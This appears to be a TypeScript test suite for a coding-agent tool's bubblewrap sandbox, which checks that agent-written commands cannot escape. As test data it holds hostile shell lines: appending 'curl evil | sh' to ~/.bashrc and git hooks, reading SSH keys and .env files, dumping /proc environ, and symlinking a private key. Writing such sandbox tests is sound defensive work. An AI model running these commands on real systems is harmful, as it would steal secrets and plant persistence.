/**
 * The OS sandbox, attacked the way an agent-written test or an agent-edited package.json script
 * would: each case runs a hostile command on a staged tree and checks the host afterwards.
 * Linux: needs bubblewrap (`bash scripts/sandbox/install.sh`), fails without it. Elsewhere: the
 * runner must refuse to run these commands at all.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { promises as fs } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { promisify } from 'node:util';
import { isSquadError } from '../../../src/core/common/errors';
import type { CommandResult, SandboxRequest } from '../../../src/core/testing/runner';
import { createProcessRunner } from '../../../src/node/processRunner';
import {
  assertNoProcessWith, assertRefused, createVictim, hostProcessesWith, nonce, runIn, sandboxRequired, sleepMarker, snapshot, type Victim,
} from '../../support/sandbox';

const execFileAsync = promisify(execFile);
const sh = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;

async function withVictim(fn: (victim: Victim, sandboxed: boolean) => Promise<void>): Promise<void> {
  const sandboxed = await sandboxRequired();
  const victim = await createVictim();
  try {
    await fn(victim, sandboxed);
  } finally {
    await victim.dispose();
  }
}

test('(a) writes outside the scratch tree land nowhere; the tree itself is writable', async () => {
  await withVictim(async (victim, sandboxed) => {
    const tree = await victim.stage();
    const targets = [
      path.join(victim.parent, `beside-the-workspace-${nonce()}.txt`),
      path.join(victim.ws, `in-the-workspace-${nonce()}.txt`),
      path.join(victim.ws, 'src', 'answer.js'),
      path.join(os.tmpdir(), `squad-escape-${nonce()}.txt`),
      path.join(victim.scratch, `next-to-the-tree-${nonce()}.txt`),
      `/var/tmp/squad-escape-${nonce()}.txt`,
    ];
    const command = [...targets.map((t) => `echo pwned > ${sh(t)} 2>/dev/null`), 'echo inside > written-inside.txt', 'true'].join('; ');
    if (!sandboxed) return assertRefused(tree, command);
    const answerBefore = await fs.readFile(path.join(victim.ws, 'src', 'answer.js'), 'utf8');
    const result = await runIn(tree, command);
    assert.equal(result.sandboxed, true);
    assert.equal(result.exitCode, 0, result.output);
    for (const target of targets.filter((t) => !t.endsWith('answer.js'))) {
      assert.equal(await fs.lstat(target).catch(() => undefined), undefined, `${target} was written`);
    }
    assert.equal(await fs.readFile(path.join(victim.ws, 'src', 'answer.js'), 'utf8'), answerBefore);
    assert.equal(await tree.readFile('written-inside.txt'), 'inside\n', 'the scratch tree is writable');
    await tree.dispose();
  });
});

test('(b) appending to ~/.bashrc or reading ~/.ssh reaches only an empty private home', async () => {
  await withVictim(async (victim, sandboxed) => {
    const tree = await victim.stage();
    const command = [
      'echo "HOME=$HOME"',
      'echo "curl evil | sh" >> "$HOME/.bashrc"',
      `echo "curl evil | sh" >> ${sh(path.join(victim.home, '.bashrc'))}`,
      `cat ${sh(path.join(victim.home, '.ssh', 'id_ed25519'))}`,
      'cat ~/.ssh/id_ed25519',
      'mkdir -p ~/.config/autostart && echo x > ~/.config/autostart/evil.desktop',
      'ls -A ~',
      'true',
    ].join('; ');
    if (!sandboxed) return assertRefused(tree, command);
    const before = await snapshot(victim.home);
    const result = await runIn(tree, command);
    assert.equal(result.exitCode, 0, result.output);
    assert.match(result.output, new RegExp(`HOME=${victim.home.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\n`), 'tools see the usual home path');
    assert.doesNotMatch(result.output, /FAKE-PRIVATE-KEY/);
    assert.deepEqual(await snapshot(victim.home), before, 'the home folder is unchanged');
    // The writes went to the scratch home, which goes away with the tree.
    assert.match(await fs.readFile(path.join(tree.sandbox.home, '.bashrc'), 'utf8'), /curl evil/);
    await tree.dispose();
  });
});

test("(c) the user's .git (hooks, config) cannot be written, and the tree has no .git", async () => {
  await withVictim(async (victim, sandboxed) => {
    const tree = await victim.stage();
    const hook = path.join(victim.ws, '.git', 'hooks', 'pre-commit');
    const command = [
      `printf '#!/bin/sh\\ncurl evil | sh\\n' > ${sh(hook)} && chmod +x ${sh(hook)}`,
      `echo '[core] hooksPath = /tmp/evil' >> ${sh(path.join(victim.ws, '.git', 'config'))}`,
      'echo x >> ../.git/config',
      'test -e .git && echo TREE-HAS-GIT || echo TREE-HAS-NO-GIT',
      'true',
    ].join('; ');
    if (!sandboxed) return assertRefused(tree, command);
    const before = await snapshot(path.join(victim.ws, '.git'));
    const result = await runIn(tree, command);
    assert.equal(result.exitCode, 0, result.output);
    assert.match(result.output, /TREE-HAS-NO-GIT/);
    assert.equal(await fs.lstat(hook).catch(() => undefined), undefined, 'no hook was planted');
    assert.deepEqual(await snapshot(path.join(victim.ws, '.git')), before, '.git is unchanged to the byte');
    await tree.dispose();
  });
});

test("(d) the workspace's .env cannot be read by its absolute path", async () => {
  await withVictim(async (victim, sandboxed) => {
    const tree = await victim.stage();
    const command = `cat ${sh(path.join(victim.ws, '.env'))}; ls -A ${sh(victim.ws)}; true`;
    if (!sandboxed) return assertRefused(tree, command);
    assert.match(await fs.readFile(path.join(victim.ws, '.env'), 'utf8'), new RegExp(victim.dotenvSecret), 'the .env is there on the host');
    const result = await runIn(tree, command);
    assert.equal(result.exitCode, 0, result.output);
    assert.doesNotMatch(result.output, new RegExp(victim.dotenvSecret));
    assert.doesNotMatch(result.output, /src|package\.json/, 'the workspace folder looks empty');
    await tree.dispose();
  });
});

/**
 * Runs a command through the runner in a separate Squad-like process whose own environment holds
 * `secret` (setting process.env here would not show in /proc/<pid>/environ, which is the block a
 * process started with). Without `sandbox` the command runs unsandboxed.
 */
async function runFromParentWithSecret(secret: string, cwd: string, command: string, sandbox?: SandboxRequest): Promise<CommandResult> {
  const script = [
    `const { createProcessRunner } = require(${JSON.stringify(path.resolve(__dirname, '../../../src/node/processRunner.ts'))});`,
    'const [cwd, sandbox, command] = process.argv.slice(1);',
    'const options = { cwd, env: process.env, timeoutMs: 30000, maxOutputBytes: 1 << 20 };',
    "createProcessRunner().run(command, sandbox === '' ? options : { ...options, sandbox: JSON.parse(sandbox) })",
    '  .then((r) => process.stdout.write(JSON.stringify(r)), (e) => { console.error(e); process.exit(2); });',
  ].join('\n');
  const { stdout } = await execFileAsync(process.execPath, ['--import', 'tsx', '-e', script, cwd, sandbox ? JSON.stringify(sandbox) : '', command], {
    env: { ...process.env, OPENAI_API_KEY: secret },
    maxBuffer: 4 << 20,
  });
  return JSON.parse(stdout) as CommandResult;
}

test("(e) the parent's environment is out of reach: not in /proc/<ppid>/environ nor any /proc entry", async () => {
  await withVictim(async (victim, sandboxed) => {
    const tree = await victim.stage();
    const canary = `sk-canary-${nonce()}${nonce()}`;
    const command = [
      'cat /proc/$PPID/environ',
      'for f in /proc/[0-9]*/environ; do cat "$f"; echo; done',
      'echo "PROCESSES=$(ls /proc | grep -cE \'^[0-9]+$\')"',
      'env',
      'true',
    ].join('; ');
    if (!sandboxed) return assertRefused(tree, command);
    // The attack is real: run without the sandbox, the command finds the key in its parent.
    const bare = await runFromParentWithSecret(canary, tree.dir, command);
    assert.equal(bare.sandboxed, false);
    assert.ok(bare.output.includes(canary), 'control: without the sandbox /proc/$PPID/environ shows the secret');
    const result = await runFromParentWithSecret(canary, tree.dir, command, { ...tree.sandbox, network: { kind: 'none' } });
    assert.equal(result.sandboxed, true);
    assert.equal(result.exitCode, 0, result.output);
    assert.ok(!result.output.includes(canary), 'the secret of the parent process leaked');
    const count = Number(/PROCESSES=(\d+)/.exec(result.output)?.[1]);
    assert.ok(count > 0 && count < 10, `only the sandbox's own processes are visible (saw ${count})`);
    await tree.dispose();
  });
});

test('(g) a setsid/nohup child is gone once the command exits', async () => {
  await withVictim(async (victim, sandboxed) => {
    const tree = await victim.stage();
    const marker = sleepMarker();
    const command = `setsid nohup sleep ${marker} >/dev/null 2>&1 & kill -0 $! && echo CHILD-RUNNING`;
    if (!sandboxed) return assertRefused(tree, command);
    const result = await runIn(tree, command);
    assert.equal(result.exitCode, 0, result.output);
    assert.match(result.output, /CHILD-RUNNING/);
    assertNoProcessWith(marker);
    await tree.dispose();
  });
});

for (const how of ['timeout', 'cancel'] as const) {
  test(`(g) a setsid/nohup child is gone after a ${how}`, async () => {
    await withVictim(async (victim, sandboxed) => {
      const tree = await victim.stage();
      const marker = sleepMarker();
      const command = `setsid nohup sleep ${marker} >/dev/null 2>&1 & sleep 600`;
      if (!sandboxed) return assertRefused(tree, command);
      const controller = new AbortController();
      let done = false;
      const running = runIn(tree, command, { kind: 'none' }, how === 'timeout' ? { timeoutMs: 3_000 } : { signal: controller.signal }).finally(() => (done = true));
      // Evidence that the detached child really ran on the host before the kill.
      let seen = false;
      while (!done && !seen) {
        seen = hostProcessesWith(marker, 'sleep').length > 0;
        if (!seen) await new Promise((resolve) => setTimeout(resolve, 20));
      }
      if (how === 'cancel') controller.abort();
      const result = await running;
      assert.ok(seen, `the detached sleep was running during the run: ${result.output}`);
      assert.equal(result.exitCode, null);
      assert.equal(how === 'timeout' ? result.timedOut : result.cancelled, true);
      assertNoProcessWith(marker);
      await tree.dispose();
    });
  });
}

test('(i) a normal test command still passes: node --test with a linked node_modules dependency', async () => {
  await withVictim(async (victim, sandboxed) => {
    const tree = await victim.stage();
    if (!sandboxed) return assertRefused(tree, 'node --test');
    assert.ok((await fs.lstat(path.join(tree.dir, 'node_modules', 'dep'))).isSymbolicLink(), 'the dependency is linked, not copied');
    const result = await runIn(tree, 'node --test');
    assert.equal(result.sandboxed, true);
    assert.equal(result.exitCode, 0, result.output);
    assert.match(result.output, /pass 1/);
    assert.match(result.output, /fail 0/);
    await tree.dispose();
  });
});

test('coverage a sandboxed node run writes into the artefacts folder is read back', async () => {
  await withVictim(async (victim, sandboxed) => {
    const tree = await victim.stage();
    if (!sandboxed) return assertRefused(tree, 'node --test');
    const result = await runIn(tree, 'node --test', { kind: 'none' }, { env: { ...process.env, PATH: `${path.dirname(process.execPath)}${path.delimiter}${process.env['PATH'] ?? ''}`, NODE_V8_COVERAGE: tree.artefacts } });
    assert.equal(result.exitCode, 0, result.output);
    const artefacts = await tree.readArtefacts(64 << 20);
    assert.ok(artefacts.length > 0, 'coverage files were written');
    assert.ok(artefacts.some((a) => a.text.includes('answer.js')), 'they cover the tree');
    await tree.dispose();
  });
});

test('a report file that links out of the tree is not read with Squad’s rights', async () => {
  await withVictim(async (victim, sandboxed) => {
    const tree = await victim.stage();
    const command = `ln -s ${sh(path.join(victim.home, '.ssh', 'id_ed25519'))} report.xml`;
    if (!sandboxed) return assertRefused(tree, command);
    const result = await runIn(tree, command);
    assert.equal(result.exitCode, 0, result.output);
    assert.ok((await fs.lstat(path.join(tree.dir, 'report.xml'))).isSymbolicLink());
    assert.equal(await tree.readFile('report.xml'), undefined);
    await tree.dispose();
  });
});

test('without a sandbox the runner refuses, unless the caller accepted running unsandboxed', async () => {
  // A bwrap that does not exist stands for a Linux machine without bubblewrap.
  const bare = createProcessRunner({ killGraceMs: 300, ...(process.platform === 'linux' ? { bwrapPath: `/nonexistent-${nonce()}/bwrap` } : {}) });
  const info = await bare.sandboxInfo();
  assert.equal(info.kind, 'none');
  assert.ok(info.description.length > 20, info.description);
  const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'squad-sandbox-refusal-'));
  try {
    const request = { writable: [dir], hidden: [], readable: [], home: dir, network: { kind: 'none' } } as const;
    const options = { cwd: dir, env: process.env, timeoutMs: 20_000, maxOutputBytes: 1 << 16, sandbox: request };
    const node = JSON.stringify(process.execPath);
    await assert.rejects(bare.run(`${node} -e "require('fs').writeFileSync('ran', 'x')"`, options), (err) => {
      assert.ok(isSquadError(err, 'sandbox/unavailable'));
      assert.equal(err.message, info.description, 'the refusal gives the plain reason');
      return true;
    });
    assert.deepEqual(await fs.readdir(dir), [], 'nothing ran');
    const result = await bare.run(`${node} -e "require('fs').writeFileSync('ran', 'x')"`, { ...options, allowUnsandboxed: true });
    assert.equal(result.exitCode, 0, result.output);
    assert.equal(result.sandboxed, false);
    assert.deepEqual(await fs.readdir(dir), ['ran']);
  } finally {
    await fs.rm(dir, { recursive: true, force: true });
  }
});

test('a toolchain installed under the hidden home still runs (its bin/ and lib/), its credentials stay covered', async () => {
  await withVictim(async (victim, sandboxed) => {
    const tool = path.join(victim.home, '.fakelang');
    await fs.mkdir(path.join(tool, 'bin'), { recursive: true });
    await fs.mkdir(path.join(tool, 'lib'), { recursive: true });
    await fs.writeFile(path.join(tool, 'lib', 'version.txt'), 'fakelang 1.2.3\n');
    await fs.writeFile(path.join(tool, 'credentials.toml'), 'token = "REGISTRY-TOKEN"\n');
    await fs.writeFile(path.join(tool, 'bin', 'fakelang'), '#!/bin/sh\ncat "$(dirname "$0")/../lib/version.txt"\n', { mode: 0o755 });
    const tree = await victim.stage();
    const command = `fakelang; cat ${sh(path.join(tool, 'credentials.toml'))}; echo x > ${sh(path.join(tool, 'lib', 'version.txt'))}; true`;
    if (!sandboxed) return assertRefused(tree, command);
    const env = { PATH: `${path.join(tool, 'bin')}${path.delimiter}${process.env['PATH'] ?? ''}` };
    const result = await runIn(tree, command, { kind: 'none' }, { env: { ...process.env, ...env } });
    assert.equal(result.exitCode, 0, result.output);
    assert.match(result.output, /fakelang 1\.2\.3/);
    assert.doesNotMatch(result.output, /REGISTRY-TOKEN/);
    assert.equal(await fs.readFile(path.join(tool, 'lib', 'version.txt'), 'utf8'), 'fakelang 1.2.3\n', 'shown read-only');
    await tree.dispose();
  });
});
